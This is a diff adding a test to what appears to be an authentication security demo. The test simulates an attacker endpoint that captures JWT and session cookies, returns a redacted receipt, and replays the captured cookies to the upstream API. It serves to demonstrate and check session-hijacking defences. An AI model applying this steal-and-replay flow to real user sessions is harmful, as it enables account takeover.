@@ -121,3 +121,51 @@ test('the image optimizer is off: /_next/image answers 404, for a file it could 
   }
   assert.deepEqual(upstream.received.slice(before).filter((entry) => entry.url !== '/api/health'), [])
 })
+
+test("the thief keeps what it steals on the server: the page gets a receipt without the secret, and a replay sends every stolen cookie", async () => {
+  const exp = Math.floor(Date.now() / 1000) + 60
+  const at = `eyJhbGciOiJIUzI1NiJ9.${Buffer.from(JSON.stringify({ sub: 'alice', exp })).toString('base64url')}.c2lnbmF0dXJl`
+  const steal = (path: string, strategy: string, cookie: string) =>
+    fetch(`${demo.url}${path}`, { method: 'POST', headers: { 'content-type': 'application/json', cookie }, body: JSON.stringify({ strategy }) })
+
+  // at is scoped to /api/jwt-cookie: it is taken there, where the origin plays the thief.
+  const response = await steal('/api/jwt-cookie/attacker/steal', 'jwt-cookie', `sid=s1; at=${at}`)
+  assert.equal(response.status, 200)
+  const text = await response.text()
+  assert.ok(!text.includes(at.split('.')[1] as string), 'the receipt never carries the stolen value')
+  const receipt = JSON.parse(text) as { kind: string; id: string; cookies: Array<{ name: string; length: number }>; expiresAt: string }
+  assert.deepEqual(receipt.cookies, [{ name: 'at', length: at.length }])
+  assert.equal(receipt.expiresAt, new Date(exp * 1000).toISOString())
+
+  const since = upstream.received.length
+  const replay = await fetch(`${demo.url}/attacker/replay`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ strategy: 'jwt-cookie', target: 'me', credential: { kind: 'cookies', id: receipt.id } }),
+  })
+  await replay.arrayBuffer()
+  const sent = upstream.received.slice(since).find((entry) => entry.url === '/api/jwt-cookie/me')
+  assert.equal(sent?.headers.cookie, `at=${at}`)
+  assert.equal(sent?.headers.authorization, undefined)
+
+  // A receipt is good for its own strategy's API only.
+  const elsewhere = await fetch(`${demo.url}/attacker/replay`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ strategy: 'jwt', target: 'me', credential: { kind: 'cookies', id: receipt.id } }),
+  })
+  assert.equal(elsewhere.status, 400)
+
+  // session-cached's credential is two cookies: one alone is not it; both are, and both are replayed.
+  assert.equal((await steal('/attacker/steal', 'session-cached', 'sid_cached=s2')).status, 404)
+  const both = (await (await steal('/attacker/steal', 'session-cached', `sid_cached=s2; session_cache=${at}`)).json()) as { id: string }
+  const before = upstream.received.length
+  await (
+    await fetch(`${demo.url}/attacker/replay`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ strategy: 'session-cached', target: 'me', credential: { kind: 'cookies', id: both.id } }),
+    })
+  ).arrayBuffer()
+  assert.equal(upstream.received.slice(before).find((entry) => entry.url === '/api/session-cached/me')?.headers.cookie, `sid_cached=s2; session_cache=${at}`)
+})
